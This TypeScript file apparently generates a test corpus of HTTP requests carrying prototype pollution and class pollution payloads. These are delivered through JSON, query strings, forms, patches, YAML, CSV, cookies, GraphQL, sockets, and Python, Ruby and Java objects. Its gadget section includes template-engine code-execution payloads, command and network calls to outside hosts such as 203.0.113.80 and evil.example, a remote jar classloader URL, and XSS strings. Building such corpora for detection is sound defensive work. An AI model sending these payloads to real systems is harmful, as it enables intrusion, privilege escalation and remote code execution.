import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';

const formType = 'application/x-www-form-urlencoded';

/** Requests that write into what all objects inherit from. */
export function writePrototypes(write: WholeWriter): void {
  writeNames(write);
  writeGadgets(write);
  writeCarriers(write);
}

/** Rights and settings, under all the names there are. */
function writeNames(write: WholeWriter): void {
  const technique = named(write, 'prototype');
  technique('a merge of settings');
  for (const [path, inner] of [
    ['/api/preferences', '"canPublish":true'],
    ['/user/theme', '"isOwner":1'],
    ['/v1/config/merge', '"allowSignup":true,"role":"owner"'],
    ['/widgets/7/options', '"verified":true'],
    ['/board/settings', '"debug":true'],
  ] as const)
    write.json(path, `{"layout":"wide","__proto__":{${inner}}}`);
  technique('by way of the constructor');
  for (const [path, inner] of [
    ['/api/layout', '"isStaff":true'],
    ['/cart/attributes', '"price":0'],
    ['/members/me', '"tier":"gold","approved":true'],
    ['/form/draft', '"skipCaptcha":true'],
  ] as const)
    write.json(path, `{"title":"x","constructor":{"prototype":{${inner}}}}`);
  technique('deep inside');
  for (const text of [
    '{"a":{"b":{"c":{"__proto__":{"admin":true}}}}}',
    '{"rows":[{"id":1},{"__proto__":{"ownerId":1}}]}',
    '{"chart":{"series":[[{"constructor":{"prototype":{"url":"//evil.example"}}}]]}}',
    '{"user":{"profile":{"__proto__":{"__proto__":{"isRoot":1}}}}}',
  ])
    write.json('/api/dashboard/save', text);
  technique('brackets in the query');
  for (const query of [
    '__proto__[isModerator]=1',
    'filter[__proto__][limit]=100000',
    'constructor[prototype][owner]=true',
    'a[constructor][prototype][debug]=1&b=2',
    '__proto__%5BhasPaid%5D=yes',
  ])
    write.get(`/catalogue?page=2&${query}`);
  technique('dots in the query');
  for (const query of [
    '__proto__.role=editor',
    'constructor.prototype.verified=1',
    'opts.__proto__.cache=false',
    'x.constructor.prototype.level=9',
  ])
    write.get(`/lookup?${query}&lang=en`);
  technique('brackets in a form');
  for (const body of [
    'name=Mo&__proto__[plan]=enterprise',
    'a[]=1&a[__proto__][x]=2',
    'user[constructor][prototype][isAdmin]=on',
    '__proto__%5Brole%5D=root&save=1',
  ])
    write.send('/profile', formType, body);
  technique('parts of a form');
  for (const name of ['__proto__[admin]', 'constructor.prototype.admin', '__proto__.canEdit', 'meta[__proto__][size]'])
    write.send(
      '/media/new',
      'multipart/form-data; boundary=pP8',
      `--pP8\r\nContent-Disposition: form-data; name="${name}"\r\n\r\ntrue\r\n--pP8--\r\n`,
    );
  technique('paths to set');
  for (const [path, value] of [
    ['__proto__.isAdmin', true],
    ['constructor.prototype.shell', '/bin/sh'],
    ['a.__proto__.b', 1],
    [['__proto__', 'owner'], 'me'],
    [['constructor', 'prototype', 'x'], 2],
  ] as const)
    write.json('/state/set', { path, value });
  technique('steps of a patch');
  for (const path of [
    '/__proto__/isAdmin',
    '/constructor/prototype/role',
    '/a/__proto__/b',
    '/items/0/__proto__/price',
  ])
    write.send('/api/items/7', 'application/json-patch+json', JSON.stringify([{ op: 'add', path, value: 'owner' }]), {
      method: 'PATCH',
    });
  technique('steps that move');
  write.send(
    '/api/items/8',
    'application/json-patch+json',
    '[{"op":"copy","from":"/name","path":"/__proto__/name"},{"op":"test","path":"/a","value":1}]',
    { method: 'PATCH' },
  );
  write.send(
    '/api/items/8',
    'application/json-patch+json',
    '[{"op":"move","from":"/role","path":"/constructor/prototype/role"}]',
    { method: 'PATCH' },
  );
  write.send('/api/items/9', 'application/merge-patch+json', '{"__proto__":{"locked":false}}', { method: 'PATCH' });
  write.send('/api/items/9', 'application/merge-patch+json', '{"meta":{"constructor":{"prototype":{"acl":"all"}}}}', {
    method: 'PATCH',
  });
  technique('names written with escapes');
  for (const text of [
    '{"__pro\\u0074o__":{"isAdmin":true}}',
    '{"\\u005f\\u005fproto\\u005f\\u005f":{"role":"owner"}}',
    '{"constr\\u0075ctor":{"prototyp\\u0065":{"ok":1}}}',
    '{"\\u005F_proto_\\u005F":{"toString":null}}',
  ])
    write.json('/prefs', text);
  technique('names that a filter puts together');
  for (const query of [
    '__pro__proto__to__[x]=1',
    '__proto____proto__[a]=1',
    'constconstructorructor[protoprototypetype][x]=1',
    '__pro__proto__to__.role=owner',
  ])
    write.get(`/hub?${query}`);
}

/** Settings that turn into code, commands or pages further down. */
function writeGadgets(write: WholeWriter): void {
  const technique = named(write, 'prototype');
  const proto = (inner: object): string => JSON.stringify({ keep: 1, PROTO: inner }).replace('PROTO', '__proto__');
  technique('options of EJS');
  write.json(
    '/page',
    proto({ outputFunctionName: "a;process.mainModule.require('child_process').execSync('hostname');b" }),
  );
  write.json('/page', proto({ client: true, escapeFunction: '1;return process.env' }));
  write.get(
    "/page?settings[view%20options][outputFunctionName]=x;process.mainModule.require('fs').readdirSync('.');y&__proto__[a]=1",
  );
  write.json('/page', proto({ destructuredLocals: ['a=1;return global.process.exit()'] }));
  technique('trees of Pug and Handlebars');
  write.json(
    '/mail/preview',
    proto({ block: { type: 'Text', line: "process.mainModule.require('child_process').execSync('w')" } }),
  );
  write.json(
    '/mail/preview',
    proto({
      type: 'Program',
      body: [
        {
          type: 'MustacheStatement',
          path: 0,
          params: [{ type: 'NumberLiteral', value: 'process.exit()' }],
          loc: { start: 0 },
        },
      ],
    }),
  );
  write.json(
    '/mail/preview',
    proto({ compileDebug: 1, self: 1, line: "global.process.mainModule.require('http').get('http://203.0.113.80')" }),
  );
  write.json('/mail/preview', proto({ allowProtoMethodsByDefault: true, allowProtoPropertiesByDefault: true }));
  technique('templates of lodash and Nunjucks');
  write.json('/export', proto({ sourceURL: "\u2028\nglobal.process.mainModule.require('child_process').exec('id')" }));
  write.json('/export', proto({ variable: 'a){return process.env}//' }));
  write.json('/export', proto({ imports: { x: 1 }, interpolate: '([\\s\\S]+)' }));
  write.json('/export', proto({ autoescape: false, type: 'Code', body: 'alert(1)' }));
  technique('options of child processes');
  write.json(
    '/render/start',
    proto({
      shell: 'node',
      env: { A: "require('child_process').execSync('id')//" },
      NODE_OPTIONS: '--require /proc/self/environ',
    }),
  );
  write.json(
    '/render/start',
    proto({
      shell: '/proc/self/exe',
      argv0: 'console.log(process.env)//',
      NODE_OPTIONS: '--require /proc/self/cmdline',
    }),
  );
  write.json('/render/start', proto({ execPath: '/bin/sh', execArgv: ['-c', 'curl 203.0.113.80'] }));
  write.json('/render/start', proto({ NODE_OPTIONS: '--inspect=203.0.113.80', input: 'id\n', shell: 'vim' }));
  technique('answers of the framework');
  for (const inner of [
    { status: 510 },
    { 'json spaces': 9 },
    { exposedHeaders: ['x-seen'] },
    { head: true, body: '<script>alert(1)</script>' },
  ])
    write.json('/api/ping', proto(inner));
  technique('requests of the server');
  for (const inner of [
    { proxy: { host: '203.0.113.80', port: 80 } },
    { baseURL: 'http://203.0.113.80/' },
    { socketPath: '/var/run/docker.sock' },
    { headers: { authorization: 'x' }, hostname: 'evil.example' },
  ])
    write.json('/sync/remote', proto(inner));
  technique('queries of a mapper');
  for (const inner of [
    { $where: 'sleep(3000)' },
    { where: { id: 1 }, raw: true },
    { logging: 'console.log', rejectOnEmpty: false },
    { lean: true, select: '+password' },
  ])
    write.json('/find', proto(inner));
  technique('pages of the browser');
  for (const query of [
    '__proto__[innerHTML]=<img/src/onerror=alert(2)>',
    '__proto__[srcdoc][]=<script>alert(3)</script>',
    'constructor[prototype][transport_url]=data:,alert(4)//',
    '__proto__[onload]=alert(5)',
    '__proto__[hif][]=javascript:alert(6)',
  ])
    write.get(`/landing?${query}`);
  technique('methods that vanish');
  for (const text of [
    '{"__proto__":{"toString":"x","valueOf":1}}',
    '{"constructor":{"prototype":{"hasOwnProperty":0}}}',
    '{"__proto__":{"length":99999999}}',
    '{"__proto__":null,"constructor":{"prototype":{"then":1}}}',
  ])
    write.json('/api/echo', text);
}

/** Carriers other than a plain JSON body. */
function writeCarriers(write: WholeWriter): void {
  const technique = named(write, 'prototype');
  technique('variables of GraphQL');
  for (const data of [
    '{"input":{"__proto__":{"admin":true}}}',
    '{"where":{"constructor":{"prototype":{"x":1}}}}',
    '{"patch":[{"__proto__":{"role":"root"}}]}',
    '{"in":{"meta":{"__proto__":{"canDelete":1}}}}',
  ])
    write.json(
      '/graphql',
      `{"query":"mutation($input:In,$where:W,$patch:[P],$in:M){save(input:$input){id}}","variables":${data}}`,
    );
  technique('YAML and TOML');
  write.send('/import', 'application/yaml', 'name: a\n__proto__:\n  isAdmin: true\n');
  write.send('/import', 'text/yaml', 'base: &b {constructor: {prototype: {role: owner}}}\nuse: *b\n');
  write.send(
    '/import',
    'application/toml',
    'title = "x"\n[__proto__]\nadmin = true\n[constructor.prototype]\nrole = "owner"\n',
  );
  write.send('/import', 'text/plain', '[__proto__]\nisAdmin=true\n\n[__proto__.nested]\nkey=1\n');
  technique('tables');
  write.send('/import/rows', 'text/csv', 'id,__proto__.isAdmin,constructor.prototype.role\n1,true,owner\n');
  write.send('/import/rows', 'text/csv', 'name;__proto__[plan]\nMo;enterprise\n');
  write.send('/import/rows', 'text/tab-separated-values', 'id\tconstructor[prototype][verified]\n1\ttrue\n');
  write.json('/import/rows', { columns: ['id', '__proto__.owner'], rows: [[1, 'me']] });
  technique('cookies');
  write.get('/', { cookie: 'prefs=%7B%22__proto__%22%3A%7B%22isAdmin%22%3Atrue%7D%7D; lang=de' });
  write.get('/', {
    cookie: 'state=j%3A%7B%22constructor%22%3A%7B%22prototype%22%3A%7B%22role%22%3A%22root%22%7D%7D%7D',
  });
  write.get('/', { cookie: `cfg=${Buffer.from('{"__proto__":{"debug":true}}').toString('base64')}` });
  write.get('/', { cookie: '__proto__[theme]=x; constructor[prototype][ok]=1' });
  technique('a text that is JSON again');
  write.json('/queue', { body: '{"__proto__":{"retries":0,"handler":"exec"}}' });
  write.send('/queue', formType, `payload=${encodeURIComponent('{"a":1,"__proto__":{"isAdmin":true}}')}`);
  write.get(`/view?options=${encodeURIComponent('{"constructor":{"prototype":{"role":"owner"}}}')}`);
  write.send(
    '/queue',
    formType,
    `data=${encodeURIComponent(Buffer.from('{"__proto__":{"owner":true}}').toString('base64'))}`,
  );
  technique('messages of sockets');
  write.send(
    '/socket.io/?EIO=4&transport=polling&sid=x',
    'text/plain',
    '42["join",{"room":"a","__proto__":{"admin":true}}]',
  );
  write.send(
    '/socket.io/?EIO=4&transport=polling&sid=x',
    'text/plain',
    '451-["__proto__",{"_placeholder":true,"num":"splice"}]',
  );
  write.send(
    '/sockjs/1/a/xhr_send',
    'text/plain',
    '["{\\"msg\\":\\"method\\",\\"params\\":[{\\"__proto__\\":{\\"isAdmin\\":1}}]}"]',
  );
  write.json('/rpc', '{"jsonrpc":"2.0","id":1,"method":"set","params":{"constructor":{"prototype":{"auth":true}}}}');
  technique('classes of Python');
  write.json('/merge', { __class__: { __init__: { __globals__: { SECRET_KEY: 'known' } } } });
  write.json('/merge', { name: 'a', __init__: { __globals__: { app: { config: { DEBUG: true } } } } });
  write.get('/set?key=__class__.__base__.__init__.__globals__.os.environ.PATH&value=/tmp');
  write.json('/merge', { __class__: { __qualname__: 'Admin', __base__: { role: 'owner' } } });
  technique('classes of Ruby and Java');
  write.json('/records/1', { class: { superclass: { superclass: { url: 'http://203.0.113.80' } } } });
  write.send('/records/1', formType, 'class.classLoader.resources.context.parent.appBase=/tmp&name=x');
  write.send('/records/1', formType, 'class[superclass][subclasses][][sample][signing_key]=known');
  write.get('/records?class.module.classLoader.URLs%5B0%5D=jar:http://203.0.113.80/a.jar!/');
  technique('getters of old engines');
  for (const text of [
    '{"__defineGetter__":"x","__lookupSetter__":{"a":1},"__proto__":{"b":1}}',
    '{"key":"__proto__","prop":"__defineSetter__","value":"isAdmin"}',
    '{"set":[["__proto__","polluted"],"yes"]}',
    '{"prop":"__proto__.__defineGetter__","args":["role","owner"]}',
  ])
    write.json('/object/define', text);
}
